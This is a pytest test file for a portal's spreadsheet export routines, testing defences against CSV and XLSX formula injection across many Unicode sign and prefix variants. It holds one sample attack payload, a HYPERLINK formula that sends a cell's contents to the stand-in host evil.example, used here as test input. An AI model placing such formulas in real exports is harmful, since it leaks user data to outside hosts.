"""No cell of a file computes anything, whatever people typed and whichever program opens it."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from portal.core.files.spreadsheets import LONGEST_CELL, csv_lines, harmless, meant, plain, write_xlsx

SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫⁺⁻⁼−"
FORMULA = 'HYPERLINK("https://evil.example?"&A1;"보기")'
# What programs drop before they look at a cell; an apostrophe is what makes a text of it.
IGNORED = re.compile('^[\\s\u00ad\u115f\u1160\u180e\u200b-\u200f\u2028-\u202f\u2060-\u206f\u3164\ufeff\uffa0"“”＂]+')
NASTY = st.text(alphabet=st.sampled_from("=+-@＝＋－＠;,\t\n\r\"' \u200b\ufeff　1A가|"), max_size=12)


def computes(cell: str) -> bool:
    """Whether a program could take the cell for a formula."""
    return cell[:1] in {"\t", "\r"} or IGNORED.sub("", cell)[:1] in set(SIGNS)


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", ["", " ", "　", "\u200b", "\ufeff", '"', "＂", "“", "\n", "\t", "\r", "\r\n ", ' "\t'])
def test_a_cell_that_would_compute_begins_with_an_apostrophe(sign, before):
    cell = harmless(f"{before}{sign}{FORMULA}")

    assert cell.startswith("'")
    assert FORMULA in cell


@pytest.mark.parametrize(
    "text", ["갑천", "3-4명", "a@b.kr", "2026-11-26", "(주) 한밭 + 대청", "", "#1", "예; 아니요", "첫째\n둘째"]
)
def test_what_computes_nothing_stays_as_it_is(text):
    assert harmless(text) == text


@pytest.mark.parametrize("separator", [";", "\t", "\n", ";;", "\n\n", "; \n", ';"'])
def test_a_sign_after_another_programs_separator_is_as_bad(separator):
    pieces = re.split("[;\t\n]", harmless(f"안녕하세요{separator}＝1+1"))

    assert not any(computes(piece) for piece in pieces)


@given(NASTY)
def test_no_cell_computes_in_any_way_of_cutting_the_file(text):
    (line,) = csv_lines([[text, "끝"]])

    assert [computes(cell) for row in read_csv(line) for cell in row] == [False, False]
    assert not any(computes(piece) for piece in re.split("[;\t\n]", line.removeprefix("\ufeff")))


@given(st.text(max_size=40))
def test_no_text_breaks_a_row(text):
    (first, second) = csv_lines([["앞", text, 7], ["뒤", "", 8]])

    assert [len(row) for row in read_csv(first + second)] == [3, 3]
    assert (first[0], first[-2:], second[0]) == ("\ufeff", "\r\n", '"')


def test_what_no_file_can_hold_is_left_out():
    assert plain("가\x00\x0b\x1f\ud800\ufffe나\r\n다\r라") == "가나\n다\n라"
    assert len(plain("가" * 40_000)) == LONGEST_CELL


@given(st.lists(st.one_of(NASTY, st.text(max_size=20), st.sampled_from(["=1+1", "#N/A", "=HYPERLINK(1)", "2026-11-26", "007"]))))
def test_an_xlsx_file_holds_texts_and_no_formulas(texts):
    file = io.BytesIO()

    write_xlsx(file, [["머리", 1], [*texts, 7]], title="Attendees")

    sheet = load_workbook(file).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert [cell.value for cell in cells if cell.row > 1] == [*(plain(text) for text in texts if plain(text)), 7]
    assert (sheet.freeze_panes, sheet.title) == ("A2", "Attendees")


@given(st.text())
def test_a_cell_that_was_made_harmless_means_what_it_meant(text):
    plain_text = plain(text)

    assert meant(harmless(plain_text)) == plain_text or "\n" in plain_text or ";" in plain_text or "\t" in plain_text
